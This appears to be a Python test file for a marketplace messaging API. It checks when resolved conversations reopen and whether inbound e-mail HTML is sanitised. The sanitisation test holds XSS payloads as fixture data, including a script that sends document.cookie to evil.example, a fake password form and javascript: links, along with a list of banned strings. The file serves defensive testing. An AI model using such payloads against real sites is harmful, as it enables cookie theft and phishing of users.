"""Rules ingest applies to every inbound message, whichever path it came by (push API, poll, mail):
a buyer writing again reopens a resolved conversation, and an e-mail's HTML is sanitised before it
is stored."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta

from api.message.inbound import InboundMessage
from api.message.pipeline import receive
from api.models import Channel
from tests.helpers import inbound, make_channel, push


async def _conversation(client, conversation_id):
    r = await client.get(f"/v1/conversations/{conversation_id}")
    assert r.status_code == 200, r.text
    return r.json()


async def _resolve(tenant, conversation_id):
    r = await tenant.agent.patch(f"/v1/conversations/{conversation_id}", json={"status": "resolved"})
    assert r.status_code == 200, r.text
    resolved = await _conversation(tenant.api, conversation_id)
    assert resolved["status"] == "resolved" and resolved["resolved_at"] is not None
    return resolved


async def test_buyer_writing_again_reopens_a_resolved_conversation(tenant):
    channel = await make_channel(tenant.api, marketplace="shopee")
    first = await push(tenant.api, channel["id"], external_thread_id="T")
    conversation_id = first["conversation_id"]
    reply = (await tenant.agent.post(f"/v1/conversations/{conversation_id}/replies", json={"body": "Shipped."})).json()
    await tenant.api.post(f"/v1/messages/{reply['id']}/delivery", json={"status": "sent"})
    await _resolve(tenant, conversation_id)

    again = await push(tenant.api, channel["id"], external_thread_id="T", sent_at=datetime.now(UTC).isoformat())
    assert again["conversation_id"] == conversation_id  # the same thread, not a new conversation
    reopened = await _conversation(tenant.api, conversation_id)
    assert reopened["status"] == "open" and reopened["resolved_at"] is None
    assert reopened["waiting_since"] is not None and reopened["message_count"] == 3
    listed = (await tenant.api.get("/v1/conversations", params={"status": "open"})).json()["items"]
    assert [c["id"] for c in listed] == [conversation_id]


async def test_a_message_that_needs_no_reply_leaves_a_resolved_conversation_resolved(tenant):
    channel = await make_channel(tenant.api, marketplace="shopee")
    first = await push(tenant.api, channel["id"], external_thread_id="T")
    conversation_id = first["conversation_id"]
    await _resolve(tenant, conversation_id)

    # A marketplace notice on the same thread (no buyer waiting) must not undo the agent's resolve.
    await push(tenant.api, channel["id"], external_thread_id="T", author_kind="system")
    still = await _conversation(tenant.api, conversation_id)
    assert still["status"] == "resolved" and still["resolved_at"] is not None


async def test_the_same_message_redelivered_does_not_reopen(tenant):
    channel = await make_channel(tenant.api, marketplace="shopee")
    body = inbound(external_thread_id="T")
    first = await tenant.api.post(f"/v1/channels/{channel['id']}/messages", json=body)
    assert first.status_code == 201, first.text
    conversation_id = first.json()["conversation_id"]
    await _resolve(tenant, conversation_id)
    # A push replayed by the marketplace is the message already ingested, not the buyer writing again.
    replay = await tenant.api.post(f"/v1/channels/{channel['id']}/messages", json=body)
    assert replay.status_code == 200 and replay.json()["id"] == first.json()["id"]
    assert (await _conversation(tenant.api, conversation_id))["status"] == "resolved"


HOSTILE = (
    '<p onclick="steal()">Where is <b>my order</b>?</p>'
    "<script>fetch('https://evil.example/'+document.cookie)</script>"
    '<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="logo">'
    '<a href="javascript:alert(1)">click</a>'
    '<a href="https://shop.example/orders/1">my order</a>'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/"><input name="password"></form>'
    "<style>body{background:url(https://evil.example/bg)}</style>"
    '<svg><script>alert(1)</script></svg><object data="x.swf"></object>'
    '<div style="position:fixed;top:0">overlay</div>'
)


async def test_hostile_html_in_an_inbound_email_is_sanitised_before_it_is_stored(tenant, sessionmaker):
    """The rule (api/message/pipeline.py, nh3 defaults): no scripts or their text, no event handlers, no
    javascript: URLs, no frames, forms, styles, SVG or plugins; links get rel=noopener noreferrer.
    Plain formatting and images survive: the SPA shows the body in an empty-sandbox iframe whose CSP
    only lets images load, without a referrer."""
    channel = await make_channel(tenant.api, marketplace="walmart")
    async with sessionmaker.begin() as session:
        row = await session.get(Channel, uuid.UUID(channel["id"]))
        result = await receive(
            session,
            row,
            InboundMessage(
                external_message_id="<hostile@mail.test>",
                buyer_external_id="buyer@mail.test",
                body="Where is my order?",
                body_html=HOSTILE,
                sent_at=datetime.now(UTC) - timedelta(minutes=1),
            ),
        )
    stored = (await tenant.api.get(f"/v1/messages/{result.message.id}")).json()
    html = stored["body_html"]
    lowered = html.lower()
    for banned in ("<script", "steal()", "document.cookie", "onclick", "onerror", "javascript:", "<iframe"):
        assert banned not in lowered, banned
    for banned in ("<form", "<input", "<style", "evil.example", "<svg", "<object", "style=", "alert("):
        assert banned not in lowered, banned
    assert "<p>Where is <b>my order</b>?</p>" in html
    assert '<a href="https://shop.example/orders/1" rel="noopener noreferrer">my order</a>' in html
    assert '<img src="https://tracker.example/pixel.gif" alt="logo">' in html
    assert stored["body"] == "Where is my order?"  # the text part is stored as sent, shown as text
